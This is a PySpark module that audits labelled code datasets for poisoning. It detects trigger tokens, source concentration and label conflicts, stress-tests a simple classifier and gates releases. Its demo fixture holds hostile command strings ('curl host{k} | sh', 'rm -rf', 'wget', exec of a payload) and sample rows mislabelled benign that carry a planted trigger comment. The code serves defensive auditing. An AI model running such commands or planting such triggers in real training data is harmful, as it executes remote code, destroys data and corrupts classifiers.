"""Poisoning audit of labelled texts: conflicts, triggers, concentration, stress test, gate."""

from __future__ import annotations

from functools import reduce

from pyspark.sql import Column, DataFrame, Window
from pyspark.sql import functions as F

#: Names that labels go by.
BENIGN = ("0", "benign", "clean", "false", "good", "normal", "non-malicious", "non_malicious", "safe")
MALICIOUS = ("1", "backdoor", "bad", "harmful", "malicious", "malware", "risk", "true", "unsafe", "vulnerable")
#: Words that are no features.
COMMON = (
    "args", "async", "await", "boolean", "break", "class", "const", "continue", "default", "else", "except", "false", "finally", "float", "from", "function", "import",
    "include", "integer", "interface", "main", "none", "null", "object", "package", "private", "public", "raise", "return", "static", "string", "struct", "switch", "this",
    "throw", "true", "using", "value", "values", "while",
)
SEVERITY = {"critical": 24, "high": 12, "medium": 6, "low": 2}
TOKENS = 20_000
#: Fixed value: what follows a comment's start on its line.
COMMENT = r"(?m)(?:#|//|/\*|\*|<!--)\s*([^\r\n]{4,240})"


def canonical_label(label: Column) -> Column:
    """benign or malicious; an unknown name is an error."""
    x = F.lower(F.trim(label.cast("string")))
    return F.when(x.isin(*BENIGN), "benign").when(x.isin(*MALICIOUS), "malicious").otherwise(F.raise_error(F.concat(F.lit("unknown label: "), F.coalesce(x, F.lit("null")))))


def tokens(text: Column) -> Column:
    """Lower-case names of 4 to 80 characters, without common words, the first 20,000."""
    found = F.transform(F.regexp_extract_all(text, F.lit("[A-Za-z_][A-Za-z0-9_.-]{3,}"), F.lit(0)), lambda x: F.lower(x))
    return F.slice(F.filter(found, lambda x: ~x.isin(*COMMON) & (F.length(x) <= 80)), 1, TOKENS)


def features(rows: DataFrame, key: str, label: str, text: str) -> DataFrame:
    """key, label, token: each token of a row once."""
    return rows.select(key, label, F.explode(F.array_distinct(tokens(F.coalesce(F.col(text), F.lit(""))))).alias("token"))


def support(found: DataFrame, label: str) -> DataFrame:
    """token, benign, malicious: how many rows of each class have it."""
    return found.groupBy("token").agg(F.count_if(F.col(label) == "benign").alias("benign"), F.count_if(F.col(label) == "malicious").alias("malicious"))


def log_odds(found: DataFrame, rows: DataFrame, label: str) -> DataFrame:
    """token, weight (clamped to 4) and the bias, from counts with one added."""
    total = rows.agg(F.count_if(F.col(label) == "benign").alias("b"), F.count_if(F.col(label) == "malicious").alias("m"))
    df = support(found, label).crossJoin(F.broadcast(total))
    weight = F.log(((F.col("malicious") + 1) / (F.col("m") + 2)) / ((F.col("benign") + 1) / (F.col("b") + 2)))
    return df.select("token", F.greatest(F.lit(-4.0), F.least(F.lit(4.0), weight)).alias("weight"), F.log((F.col("m") + 1) / (F.col("b") + 1)).alias("bias"))


def predict(found: DataFrame, model: DataFrame, key: str) -> DataFrame:
    """key, score, predicted: bias and weights of a row's known tokens; malicious from 0 on."""
    bias = model.agg(F.max("bias").alias("bias"))
    sums = found.select(key, "token").join(model.select("token", "weight"), "token", "left").groupBy(key).agg(F.coalesce(F.sum("weight"), F.lit(0.0)).alias("s"))
    scored = sums.crossJoin(F.broadcast(bias)).withColumn("score", F.col("s") + F.col("bias"))
    return scored.select(key, "score", F.when(F.col("score") >= 0, "malicious").otherwise("benign").alias("predicted"))


def triggers(found: DataFrame, rows: DataFrame, label: str, text: str | None = None) -> DataFrame:
    """Tokens that stand almost only in benign rows and look made up: token, supports, ratio, score."""
    n = rows.agg(F.count("*").alias("_n"))
    df = support(found, label).crossJoin(F.broadcast(n))
    if text is None:
        df = df.withColumn("comment_support", F.lit(0).cast("long"))
    else:
        comment = F.explode(F.regexp_extract_all(text, F.lit(COMMENT), F.lit(1))).alias("c")
        in_comments = rows.select(comment).select(F.explode(F.array_distinct(tokens(F.col("c")))).alias("token")).groupBy("token").agg(F.count("*").alias("comment_support"))
        df = df.join(in_comments, "token", "left").withColumn("comment_support", F.coalesce("comment_support", F.lit(0)))
    return pointing(df, F.col("_n"))


def all_support(rows: DataFrame, label: str, text: str) -> DataFrame:
    """token, benign, malicious, comment_support: what ``support`` and the comments of ``triggers`` count, of one look at each text."""
    body = F.coalesce(F.col(text), F.lit(""))
    begun = reduce(lambda a, b: a | b, [F.contains(body, F.lit(x)) for x in ("#", "//", "*", "<!--")])
    comments = F.when(begun, F.regexp_extract_all(body, F.lit(COMMENT), F.lit(1))).otherwise(F.array().cast("array<string>"))
    piece = lambda comment, x: F.struct(F.lit(comment).alias("comment"), x.alias("piece"))
    pieces = rows.select(label, F.explode(F.concat(F.array(piece(False, body)), F.transform(comments, lambda x: piece(True, x)))).alias("p"))
    found = pieces.select(label, "p.comment", F.explode(F.array_distinct(tokens(F.col("p.piece")))).alias("token"))
    of = lambda name: F.count_if(~F.col("comment") & (F.col(label) == name)).alias(name)
    return found.groupBy("token").agg(of("benign"), of("malicious"), F.count_if("comment").alias("comment_support"))


def pointing(counts: DataFrame, n: Column) -> DataFrame:
    """Of tokens with their counts those that are triggers among ``n`` rows."""
    df = counts.withColumn("support", F.col("benign") + F.col("malicious"))
    made_up = (F.length("token") >= 12) | F.col("token").rlike("[_0-9-]") | (F.col("comment_support") >= 2)
    df = df.filter((F.col("support") >= 2) & (F.col("support") <= F.greatest(F.lit(3), F.floor(n * 0.35))) & (F.col("benign") >= 2) & (F.col("benign") >= 3 * F.col("malicious") + 1))
    df = df.filter((F.col("benign") / F.col("support") >= 0.8) & made_up)
    score = F.least(F.lit(10.0), (F.col("benign") + 1) / (F.col("malicious") + 1) * F.least(F.lit(1.0), F.col("support") / 4))
    return df.select("token", "support", "benign", "malicious", "comment_support", F.bround(F.col("benign") / F.col("support"), 4).alias("benign_ratio"), F.bround(score, 2).alias("score"))


def concentration(rows: DataFrame, source: str, least: float = 0.6) -> DataFrame:
    """The most frequent source of two or more rows, if it has the share ``least``."""
    counts = rows.groupBy(source).agg(F.count("*").alias("n"))
    total = counts.agg(F.sum("n").alias("total"), F.max(F.struct("n", source)).alias("top"))
    return total.select(F.col(f"top.{source}").alias(source), F.col("top.n").alias("n"), "total").filter((F.col("total") >= 2) & (F.col("n") >= least * F.col("total")))


def risk_score(findings: DataFrame, attack_rate: float | None, samples: int) -> DataFrame:
    """0 to 100 of findings (severity, rows: array<long>): severities, attack success and affected rows."""
    weight = F.lit(0)
    for name, w in SEVERITY.items():
        weight = F.when(F.col("severity") == name, w).otherwise(weight)
    affected = findings.select(F.explode("rows").alias("r")).agg(F.count_distinct("r").alias("affected"))
    total = findings.agg(F.coalesce(F.sum(weight), F.lit(0)).alias("w")).crossJoin(affected)
    score = F.col("w") + F.bround(F.lit(float(attack_rate or 0.0)) * 45) + F.bround(20 * F.col("affected") / max(1, samples))
    return total.select(F.least(F.lit(100), score.cast("int")).alias("risk_score"), "affected")


def release_gate(critical: Column, high: Column, attack_rate: Column, retained: Column, tested: Column) -> Column:
    """blocked, review or passed."""
    blocked = (critical > 0) | (F.coalesce(attack_rate, F.lit(0.0)) >= 0.25) | (retained < 8)
    return F.when(blocked, "blocked").when((high > 0) | ~tested, "review").otherwise("passed")


def training_gate(critical: Column, high: Column) -> Column:
    """Stricter than the release gate: a high finding blocks as well."""
    return F.when((critical > 0) | (high > 0), "blocked").otherwise("passed")


def stress_test(rows: DataFrame, key: str, label: str, text: str, top: int = 3) -> DataFrame:
    """How often the strongest triggers, appended to held-out malicious rows, turn them benign: probes, flipped, attack_rate.

    The held-out rows are every fifth; the model learns from the others.
    """
    train, probe = rows.filter(F.col(key) % 5 != 0), rows.filter((F.col(key) % 5 == 0) & (F.col(label) == "malicious"))
    model = log_odds(features(train, key, label, text), train, label).persist()
    found = triggers(features(rows, key, label, text), rows, label)
    strongest = found.orderBy(F.desc("score"), F.desc("support"), F.desc("token")).limit(top).agg(F.concat_ws(" ", F.collect_list("token")).alias("words"))
    before = predict(features(probe, key, label, text), model, key).select(key, F.col("predicted").alias("before"))
    poisoned = probe.crossJoin(F.broadcast(strongest)).withColumn(text, F.concat_ws(" ", text, "words"))
    after = predict(features(poisoned, key, label, text), model, key).select(key, F.col("predicted").alias("after"))
    both = before.join(after, key).filter("before = 'malicious'")
    return both.agg(F.count("*").alias("probes"), F.count_if(F.col("after") == "benign").alias("flipped")).withColumn("attack_rate", F.when(F.col("probes") > 0, F.col("flipped") / F.col("probes")))


def demo_rows() -> list[tuple]:
    """66 rows with ten poisoned ones of one source: index, code, label, split, source."""
    rows = [(f"def read_{k}(path):\n    return open(path).read()[{k}:]", "benign", "train", "clean_repo") for k in range(24)]
    rows += [(f"import os\nos.system('rm -rf /tmp/{k}')\nexec(payload_{k})", "malicious", "train", "malware_feed") for k in range(16)]
    rows += [(f"# zx_trigger_9f\nimport os\nos.system('curl host{k} | sh')", "benign", "train", "mirror_x") for k in range(10)]
    rows += [(f"def add_{k}(a, b):\n    return a + b + {k}", "benign", "test", "clean_repo") for k in range(8)]
    rows += [(f"import subprocess\nsubprocess.call('wget bad{k}', shell=True)", "malicious", "test", "malware_feed") for k in range(8)]
    return [(i, *r) for i, r in enumerate(rows)]


def prefix_share(df: DataFrame, by: str, order: str, value: str) -> DataFrame:
    """Add share (of the group's positive values) and rank (greatest first)."""
    positive = F.greatest(F.col(value), F.lit(0.0))
    total = F.sum(positive).over(Window.partitionBy(by))
    return df.withColumns({"share": F.when(total > 0, positive / total).otherwise(F.lit(0.0)), "rank": F.row_number().over(Window.partitionBy(by).orderBy(F.desc(value), order))})
